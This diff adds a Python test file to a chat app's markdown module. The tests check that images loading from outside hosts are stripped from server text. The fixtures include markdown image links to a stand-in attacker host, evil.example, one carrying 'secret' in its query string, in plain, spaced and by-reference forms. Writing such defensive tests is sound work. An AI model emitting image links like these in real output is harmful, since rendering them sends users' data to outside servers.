@@ -1,0 +1,19 @@
+"""Text the server sends never carries an image that loads from another host."""
+
+from __future__ import annotations
+
+from app.chat.markdown import without_remote_images
+
+
+def test_remote_images_become_their_description() -> None:
+    leak = "See ![chart](http://evil.example/x.png?q=secret) and ![](https://evil.example/y)."
+    assert without_remote_images(leak) == "See [image: chart] and [image]."
+    spaced = '![a]( <//evil.example/z.png> "title")'
+    assert without_remote_images(spaced) == "[image: a]"
+    by_reference = "![logo][1]\n\n[1]: https://evil.example/logo.png"
+    assert without_remote_images(by_reference).startswith("[image: logo]\n")
+
+
+def test_images_served_by_cadre_itself_stay() -> None:
+    local = "![avatar](/avatars/cadre) ![inline](data:image/png;base64,iVBOR) plain [link](https://x.example)"
+    assert without_remote_images(local) == local
